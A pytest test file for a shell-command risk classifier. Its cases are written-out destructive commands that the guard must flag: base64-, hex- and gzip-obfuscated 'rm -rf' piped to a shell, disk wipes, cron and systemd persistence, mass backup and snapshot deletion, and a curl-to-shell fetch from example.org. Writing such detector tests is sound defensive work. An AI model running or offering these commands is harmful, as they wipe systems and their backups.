"""What the guard follows from one command to the next: text that is decoded, listed, written and then run, or run later."""

from __future__ import annotations

import base64
import bz2
import codecs
import gzip
import random

import pytest

from opsterm.guard import Target, classify
from opsterm.risk import DANGEROUS, FORBIDDEN, LEVELS

TARGET = Target(cwd="/work/proj", home="/home/me", shown=True)
WIPE = "rm -rf /etc"


def level(command):
    return classify(command, TARGET).level


def rank(command):
    return LEVELS.index(level(command))


def b64(text):
    return base64.b64encode(text.encode()).decode()


# A text with something done to it → the filters that undo it.
DECODERS = {
    "base64": (b64, "base64 -d ;; base64 --decode ;; openssl base64 -d -A ;; openssl enc -base64 -d -A ;; openssl enc -d -a -A ;; sudo base64 -di"),
    "base32": (lambda text: base64.b32encode(text.encode()).decode(), "base32 -d"),
    "hex": (lambda text: text.encode().hex(), "xxd -r -p ;; xxd -p -r"),
    "reversed": (lambda text: text[::-1], "rev"),
    "rot13": (lambda text: codecs.encode(text, "rot13"), "tr A-Za-z N-ZA-Mn-za-m"),
    "upper": (str.upper, "tr A-Z a-z ;; tr '[:upper:]' '[:lower:]'"),
    "blanks": (lambda text: text.replace(" ", "_"), "tr _ ' ' ;; sed 's/_/ /g' ;; sed 's|_| |g'"),
    "padded": (lambda text: "X".join(text), "tr -d X ;; sed s/X//g"),
    "headed": (lambda text: "Q " + text, "cut -d' ' -f2- ;; sed 's/^Q //' ;; sed -E 's/^Q (.*)/\\1/'"),
    "zipped": (lambda text: base64.b64encode(gzip.compress(text.encode(), mtime=0)).decode(), "base64 -d | gunzip ;; base64 -d | gzip -dc ;; base64 -d | zcat"),
    "bzipped": (lambda text: base64.b64encode(bz2.compress(text.encode())).decode(), "base64 -d | bunzip2 ;; base64 -d | bzip2 -d"),
    "plain": (str, "cat ;; cat - ;; tac ;; head -1 ;; tail -n 1 ;; sort ;; uniq ;; tee x ;; sed -n p ;; awk 1 ;; awk '{print $0}' ;; fold -w 99 ;; gzip | gunzip"
                   " ;; base64 | base64 -d ;; grep rm"),
}  # fmt: skip
RUNNERS = ("{} | sh", "{} | sudo bash", "{} | bash -s", 'eval "$({})"', 'sh -c "$({})"', "bash <({})", ". <({})", "x=$({}); $x", "{} > f; sh f",
           "{} | tee f; chmod +x f; ./f", "{} > f && cp f g && bash g", "{} > f; mv f g; . ./g", "{} > f; install -m 755 f /tmp/g; /tmp/g",
           "cat <({}) | sh", "{} | xargs -0 sh -c", "{} > f; ln -s f g; sh g", "{} | dd of=f; sh f", "{} > f; cat f | sh")  # fmt: skip
CASES = [
    (kind, runner.format(f"echo '{encode(WIPE)}' | {filters}"))
    for kind, (encode, choices) in DECODERS.items()
    for at, filters in enumerate(choices.split(" ;; "))
    for runner in (RUNNERS[0], RUNNERS[1 + (at + len(kind)) % (len(RUNNERS) - 1)])
]


@pytest.mark.parametrize("kind, command", CASES)
def test_decoded_text_is_judged_as_what_it_is(kind, command):
    assert level(command) == FORBIDDEN


@pytest.mark.parametrize("runner", RUNNERS)
@pytest.mark.parametrize("text", [WIPE, "ls -l"])
def test_however_it_is_run(runner, text):
    assert (level(runner.format(f"echo {b64(text)} | base64 -d")) == FORBIDDEN) is (text == WIPE)


def test_any_chain_of_filters():
    """What comes out of the guard's filters is what was put in, however often it was wrapped."""
    random.seed(7)
    simple = [kind for kind in DECODERS if kind not in ("upper", "blanks", "padded", "plain")]
    for _ in range(60):
        text, undo = WIPE, []
        for kind in random.choices(simple, k=random.randint(1, 3)):
            encode, choices = DECODERS[kind]
            text = encode(text)
            undo.insert(0, random.choice(choices.split(" ;; ")))
        command = f"printf %s '{text}' | {' | '.join(undo)} | sh"
        assert level(command) == FORBIDDEN, command


WHOLESALE = {
    "lists of a directory": """
        ls / | xargs rm -rf
        ls / | xargs -I{} rm -rf /{}
        sudo ls -A / | sudo xargs -I% rm -rf /%
        for d in $(ls /etc); do rm -rf /etc/$d; done
        ls / | while read d; do rm -rf "/$d"; done
        rm -rf $(ls /)
        printf '%s\\n' /* | xargs rm -rf
        echo /etc | xargs -I{} rm -rf {}
        ls / | sed 's|^|rm -rf /|' | sh
        ls / | awk '{print "rm -rf /"$1}' | sh
        find / | xargs rm -rf
        find /usr -type f -print0 | xargs -0 chmod 000
        find /etc -type f -printf 'rm -f %p\\n' | sh
        cut -d: -f6 /etc/passwd | xargs rm -rf
    """,
    "find": """
        find -- /etc -delete
        find /usr -type f -exec chmod 000 {} +
        find /lib -name '*.so*' -delete
        find / -iname '*.SO*' -delete
        find /etc -name '*.conf' -delete
        find / -user root -delete
        find / -mtime -100000 -delete
    """,
    "the disk of the system": """
        ls /dev/sd? | xargs -n1 wipefs -a
        lsblk -dpno NAME | xargs -n1 wipefs -a
        lsblk -dno NAME | while read d; do dd if=/dev/zero of=/dev/$d; done
        dd if=/dev/zero of="$(findmnt -no SOURCE / | sed 's/[0-9]*$//')"
        dd if=/dev/zero of=$(df / | tail -1 | awk '{print $1}')
        mkfs.ext4 -F "$(df --output=source / | tail -1)"
        wipefs -a /dev/$(lsblk -no PKNAME $(findmnt -no SOURCE /))
        sfdisk --delete /dev/sda
        parted -s /dev/sda rm 1
        mdadm --zero-superblock /dev/sda
        zpool labelclear -f /dev/sdb
    """,
    "run later": """
        crontab - <<< '@reboot rm -rf /'
        (crontab -l; echo '* * * * * rm -rf /etc') | crontab -
        echo '0 3 * * * rm -rf /etc' > x; crontab x
        echo '@reboot root rm -rf /' | sudo tee -a /etc/crontab
        printf '#!/bin/sh\\nrm -rf /\\n' | sudo tee /etc/cron.daily/clean
        echo 'rm -rf /' | at now
        echo 'rm -rf /' > x; at -f x now
        systemd-run -S <<< 'rm -rf /'
        make -f - <<< $'all:\\n\\trm -rf /'
        printf 'all:\\n\\t@rm -rf /etc\\n' > Makefile; make
        echo 'rm -rf /' | sudo tee /usr/local/bin/x; x
        tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf /'
        tmux send-keys 'rm -rf /' Enter
    """,
    "elsewhere": """
        ansible all -b -m file -a 'path=/etc state=absent'
        ansible all -m filesystem -a 'fstype=ext4 dev=/dev/sda'
        kubectl debug node/n1 --image=busybox -- chroot /host rm -rf /
        kubectl debug node/n1 --image=busybox -- rm -rf /host/etc
        vagrant ssh <<< 'sudo rm -rf /etc'
        pct enter 100 <<< 'rm -rf /'
        multipass shell vm <<< 'sudo rm -rf /'
        env -S 'rm -rf' /etc
        az vm run-command invoke -g g -n vm --command-id RunShellScript --scripts 'rm -rf /etc'
    """,
    "code": """
        awk 'BEGIN { print "rm -rf /etc" | "sh" }'
        awk 'BEGIN{c="rm -rf /"; system(c)}'
        tclsh <<< 'file delete -force /etc'
        tclsh <<< 'foreach f [glob /etc/*] { file delete -force $f }'
        expect -c 'spawn rm -rf /'
        julia -e 'rm("/etc", recursive=true)'
        emacs --batch --eval '(shell-command "rm -rf /")'
        python3 -c "import os; [os.chmod(os.path.join(r,x),0) for r,d,f in os.walk('/') for x in f]"
        python3 -c "import pathlib; [p.unlink() for p in pathlib.Path('/etc').rglob('*') if p.is_file()]"
        python3 -c "import os; root='/etc'; [os.remove(os.path.join(r,f)) for r,d,fs in os.walk(root) for f in fs]"
        python3 -c "import shutil; [shutil.rmtree(p) for p in ['/etc','/usr']]"
        python3 -c "import os; os.system(bytes.fromhex('726d202d7266202f').decode())"
        python3 -c "import os; os.system('/ fr- mr'[::-1])"
        perl -e 'unlink glob("/etc/*")'
        perl -e 'chmod 0, glob("/bin/* /usr/bin/*")'
        perl -MFile::Find -e 'finddepth(sub{unlink $_}, "/etc")'
        perl -MMIME::Base64 -e 'system(decode_base64("cm0gLXJmIC8="))'
        ruby -e 'Dir.glob("/etc/**/*").each { |f| File.delete(f) }'
        ruby -rfileutils -e '%w[/etc /usr].each { |d| FileUtils.rm_rf(d) }'
        node -e 'const fs=require("fs"); fs.readdirSync("/etc").forEach(f=>fs.unlinkSync("/etc/"+f))'
        php -r 'array_map("unlink", glob("/etc/*"));'
        Rscript -e 'file.remove(list.files("/etc", full.names=TRUE))'
        echo "import shutil; shutil.rmtree('/etc')" > x.py; python3 x.py
    """,
    "backups": """
        rsync -a --delete /tmp/empty/ /backup/
        rsync -r --delete "$(mktemp -d)/" /home/
        aws s3 sync /tmp/empty s3://acme-backups --delete
        aws backup delete-backup-vault --backup-vault-name prod
        az backup vault delete -n vault1 -g prod --force --yes
        zfs list -H -o name -t snapshot | xargs -n1 zfs destroy
        for s in $(zfs list -H -t snapshot -o name); do zfs destroy $s; done
        zfs list -H -o name -t snapshot | while read s; do zfs destroy "$s"; done
        restic snapshots -q --json | jq -r '.[].id' | xargs restic forget --prune
        aws ec2 describe-snapshots --owner-ids self --query 'Snapshots[].SnapshotId' --output text | xargs -n1 aws ec2 delete-snapshot --snapshot-id
        gcloud compute snapshots delete $(gcloud compute snapshots list --format='value(name)') -q
        az snapshot list --query '[].id' -o tsv | xargs az snapshot delete --ids
        tmutil listbackups | xargs -n1 sudo tmutil delete
        virsh snapshot-list vm --name | xargs -n1 virsh snapshot-delete vm
        lvs -o lv_path --noheadings | xargs lvremove -y
        btrfs subvolume list -s / | awk '{print $NF}' | xargs -n1 btrfs subvolume delete
    """,
}
# Commands that look like one of the above, and that people have reason to type.
SOUND = """
    cd /srv/app && rm -rf *
    ls -t | tail -n +6 | xargs rm -rf
    ls -1t /var/backups | tail -n +8 | xargs -I{} rm /var/backups/{}
    ls /opt | grep old | xargs -I{} rm -rf /opt/{}
    ls -1d /var/www/releases/*/ | sort -r | tail -n +6 | xargs rm -rf
    for u in $(ls /home); do cp -r /etc/skel/. /home/$u/; done
    for u in $(ls /home); do rm -rf /home/$u/.cache/thumbnails; done
    for d in $(ls /); do du -sh /$d; done
    find /usr -name '*.pyc' -delete
    find /etc -name '*.bak' -delete
    find /var/log -name '*.gz' -mtime +30 -delete
    find /tmp -mindepth 1 -delete
    find /var/www -type d -print0 | xargs -0 chmod 755
    resize2fs $(findmnt -no SOURCE /)
    dd if=$(findmnt -no SOURCE /) of=/mnt/backup/root.img bs=4M
    lsblk -dno NAME | xargs -I{} smartctl -H /dev/{}
    [ $(df / | awk 'NR==2{print $5}' | tr -d %) -gt 90 ] && echo full
    crontab - <<< '0 3 * * * rm -rf /tmp/cache/*'
    echo '*/5 * * * * root rm -rf /var/tmp/build/*' | sudo tee -a /etc/crontab
    echo 'systemctl restart nginx' | at now + 5 minutes
    printf 'clean:\\n\\trm -rf $(BUILD)/*\\n' > Makefile; make clean
    echo 'rm -rf build' > x; chmod +x x; ./x
    tar cf x.tar . --checkpoint=100 --checkpoint-action=dot
    ansible all -m file -a 'path=/etc/nginx/conf.d/old.conf state=absent'
    kubectl debug node/n1 -it --image=busybox -- chroot /host ls /etc
    docker run --rm alpine rm -rf /etc
    awk '{print "rm -rf /etc"}' f
    awk '{print $1 | "sort"}' f
    python3 -c "import os; [os.remove(os.path.join(r,f)) for r,d,fs in os.walk('/usr') for f in fs if f.endswith('.pyc')]"
    python3 -c "import os; print(os.listdir('/')); os.remove('/tmp/x')"
    python3 -c "import pathlib; [p.unlink() for p in pathlib.Path('/etc').rglob('*.bak')]"
    python3 -c "import glob,os; [os.remove(f) for f in glob.glob('/var/log/*.gz')]"
    perl -MFile::Find -e 'find(sub { unlink $_ if /\\.bak$/ }, "/etc")'
    perl -e 'print join "\\n", glob("/etc/*")'
    ruby -e 'Dir.glob("/srv/app/tmp/*").each { |f| File.delete(f) }'
    rsync -a --delete /home/me/ /backup/me/
    rsync -a --delete /tmp/site/ /var/www/
    rsync -a --delete /data/ /backup/
    sfdisk -d /dev/sda
    parted /dev/sda resizepart 1 100%
    mdadm --zero-superblock /dev/sdb1
    aws s3 sync /srv/data s3://acme-backups --delete
    aws backup delete-recovery-point --backup-vault-name v --recovery-point-arn a
    aws ec2 describe-snapshots --owner-ids self --query "Snapshots[?StartTime<='2020-01-01'].SnapshotId" --output text | xargs -n1 aws ec2 delete-snapshot --snapshot-id
    zfs list -H -o name -t snapshot | grep auto-2020 | xargs -n1 zfs destroy
    zfs list -H -o name -t snapshot -S creation | tail -n +30 | xargs -n1 zfs destroy
    zfs list -H -o name -t snapshot | xargs -n1 zfs hold keep
    kubectl get pods -o name | xargs kubectl delete
    kubectl get pvc -n prod -o name | xargs -r kubectl -n prod delete
    restic forget --keep-last 7 --prune
    borg delete repo::a
"""
# What stays unknown stays dangerous, though a part of it, or an example of it, can be told.
UNKNOWN = """
    find . -iname '*.jar' -printf "unzip -c %p\\n" | sh
    ls | awk '{print "mv "$1" "$1".old"}' | sh
    df | awk '{print "echo "$1}' | sh
    curl -s https://example.org/x | base64 -d | sh
    echo aGk= | base64 -d | frobnicate | sh
    cat x | rev | sh
"""


def lines(text):
    return [line.strip() for line in text.strip().splitlines()]


@pytest.mark.parametrize("command", [line for text in WHOLESALE.values() for line in lines(text)])
def test_what_is_destroyed_wholesale_is_forbidden(command):
    assert level(command) == FORBIDDEN


@pytest.mark.parametrize("command", lines(SOUND))
def test_what_only_looks_like_it_is_not(command):
    assert level(command) != FORBIDDEN


@pytest.mark.parametrize("command", lines(UNKNOWN))
def test_what_is_not_known_is_dangerous(command):
    assert level(command) == DANGEROUS


@pytest.mark.parametrize("interpreter", ["sh <<E\n{}\nE", "cat <<'E' | sh\n{}\nE", "cat > x <<'E'\n{}\nE\nsh x", "at now <<E\n{}\nE", "crontab - <<E\n0 0 * * * {}\nE",
                                         "vagrant ssh <<E\n{}\nE", "make -f - <<E\nall:\n\t{}\nE", "tclsh <<E\nexec {}\nE", "lxc exec web -- bash <<E\n{}\nE"])  # fmt: skip
def test_here_documents(interpreter):
    assert level(interpreter.format(WIPE)) == FORBIDDEN
    assert level(interpreter.format("ls -l")) != FORBIDDEN


@pytest.mark.parametrize("path, text", [("/etc/crontab", "* * * * * root {}"), ("/etc/cron.d/x", "@daily root {}"), ("/etc/cron.hourly/x", "#!/bin/sh\n{}"),
                                        ("/etc/rc.local", "{}"), ("/home/me/.bashrc", "{}"), ("/etc/systemd/system/x.service", "[Service]\nExecStart=/bin/sh -c '{}'")])  # fmt: skip
@pytest.mark.parametrize("how", ["cat <<'E' | tee -a {0}\n{1}\nE", "cat <<'E' >> {0}\n{1}\nE"])
def test_what_the_machine_runs_by_itself_is_read(how, path, text):
    assert level(how.format(path, text.format(WIPE))) == FORBIDDEN
    assert level(how.format(path, text.format("ls -l"))) != FORBIDDEN


@pytest.mark.parametrize("command", ["echo x | sed 's/\\(a*\\)*b//' | sh", f"echo {'a' * 3000} | sed 's/a*a*a*a*b//' | sh", f"echo {'a' * 5000} | sed -E 's/(a+)+$//' | sh"])
def test_an_expression_that_would_take_long_is_not_tried(command):
    assert rank(command) >= LEVELS.index(DANGEROUS)


def test_a_small_file_that_unpacks_to_a_lot_is_not_unpacked():
    bomb = base64.b64encode(gzip.compress(b"a" * 30_000_000)).decode()
    assert level(f"echo {bomb} | base64 -d | gunzip | sh") >= DANGEROUS
